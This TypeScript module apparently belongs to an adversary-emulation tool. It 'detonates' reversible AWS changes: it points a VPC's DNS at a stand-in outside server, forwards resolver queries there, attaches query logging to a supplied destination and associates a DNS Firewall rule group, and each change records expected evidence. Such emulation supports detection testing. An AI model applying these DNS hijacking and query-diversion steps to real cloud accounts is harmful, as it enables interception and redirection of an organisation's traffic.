import {
  AssociateDhcpOptionsCommand,
  CreateDhcpOptionsCommand,
  DeleteDhcpOptionsCommand,
  DescribeVpcsCommand,
  type EC2Client,
} from '@aws-sdk/client-ec2';
import {
  AssociateFirewallRuleGroupCommand,
  AssociateResolverQueryLogConfigCommand,
  AssociateResolverRuleCommand,
  CreateFirewallRuleGroupCommand,
  CreateResolverQueryLogConfigCommand,
  CreateResolverRuleCommand,
  DeleteFirewallRuleGroupCommand,
  DeleteResolverQueryLogConfigCommand,
  DeleteResolverRuleCommand,
  DisassociateFirewallRuleGroupCommand,
  DisassociateResolverQueryLogConfigCommand,
  DisassociateResolverRuleCommand,
  type Route53ResolverClient,
  type RuleTypeOption,
} from '@aws-sdk/client-route53resolver';
import type { Detonated } from './technique';

const STRANGERS_SERVER = '198.51.100.53';

/** Has a VPC's hosts ask a stranger's name server. */
export async function strangersNameServer(ec2: EC2Client, VpcId: string): Promise<Detonated> {
  const { Vpcs } = await ec2.send(new DescribeVpcsCommand({ VpcIds: [VpcId] }));
  const before = Vpcs?.[0]?.DhcpOptionsId ?? 'default';
  const DhcpConfigurations = [{ Key: 'domain-name-servers', Values: [STRANGERS_SERVER] }];
  const { DhcpOptions } = await ec2.send(new CreateDhcpOptionsCommand({ DhcpConfigurations }));
  const { DhcpOptionsId } = DhcpOptions ?? {};
  await ec2.send(new AssociateDhcpOptionsCommand({ VpcId, DhcpOptionsId }));
  const revert = async () => {
    await ec2.send(new AssociateDhcpOptionsCommand({ VpcId, DhcpOptionsId: before }));
    await ec2.send(new DeleteDhcpOptionsCommand({ DhcpOptionsId }));
  };
  return { expectedEvidence: `name the name server ${STRANGERS_SERVER}`, revert };
}

export async function namesForwarded(
  resolver: Route53ResolverClient,
  VPCId: string,
  DomainName: string,
  RuleType: RuleTypeOption = 'FORWARD',
): Promise<Detonated> {
  const { ResolverRule } = await resolver.send(
    new CreateResolverRuleCommand({
      ...{ CreatorRequestId: `${Date.now()}`, Name: 'support', RuleType, DomainName },
      // "CreateResolverRule": a system rule forwards to nobody.
      ...(RuleType === 'FORWARD' && {
        TargetIps: [{ Ip: STRANGERS_SERVER, Port: 53 }],
        ResolverEndpointId: 'rslvr-out-1',
      }),
    }),
  );
  const association = { ResolverRuleId: ResolverRule?.Id, VPCId };
  await resolver.send(new AssociateResolverRuleCommand(association));
  const revert = async () => {
    await resolver.send(new DisassociateResolverRuleCommand(association));
    await resolver.send(new DeleteResolverRuleCommand({ ResolverRuleId: ResolverRule?.Id }));
  };
  return { expectedEvidence: `Resolver rule ${ResolverRule?.Id}`, revert };
}

export async function namesTold(
  resolver: Route53ResolverClient,
  ResourceId: string,
  DestinationArn: string,
): Promise<Detonated> {
  const { ResolverQueryLogConfig } = await resolver.send(
    new CreateResolverQueryLogConfigCommand({ CreatorRequestId: `${Date.now()}`, Name: 'support', DestinationArn }),
  );
  const { Id: ResolverQueryLogConfigId } = ResolverQueryLogConfig ?? {};
  const association = { ResolverQueryLogConfigId, ResourceId };
  await resolver.send(new AssociateResolverQueryLogConfigCommand(association));
  const revert = async () => {
    await resolver.send(new DisassociateResolverQueryLogConfigCommand(association));
    await resolver.send(new DeleteResolverQueryLogConfigCommand({ ResolverQueryLogConfigId }));
  };
  return { expectedEvidence: `query log ${ResolverQueryLogConfigId}`, revert };
}

/** Has a DNS Firewall answer a VPC's hosts. */
export async function namesAnswered(resolver: Route53ResolverClient, VpcId: string): Promise<Detonated> {
  const CreatorRequestId = `${Date.now()}`;
  const { FirewallRuleGroup } = await resolver.send(
    new CreateFirewallRuleGroupCommand({ CreatorRequestId, Name: 'support' }),
  );
  const { Id: FirewallRuleGroupId } = FirewallRuleGroup ?? {};
  const { FirewallRuleGroupAssociation } = await resolver.send(
    new AssociateFirewallRuleGroupCommand({
      ...{ CreatorRequestId, FirewallRuleGroupId, VpcId, Priority: 101, Name: 'support' },
    }),
  );
  const revert = async () => {
    const { Id: FirewallRuleGroupAssociationId } = FirewallRuleGroupAssociation ?? {};
    await resolver.send(new DisassociateFirewallRuleGroupCommand({ FirewallRuleGroupAssociationId }));
    await resolver.send(new DeleteFirewallRuleGroupCommand({ FirewallRuleGroupId }));
  };
  return { expectedEvidence: `rule group ${FirewallRuleGroupId} (support)`, revert };
}
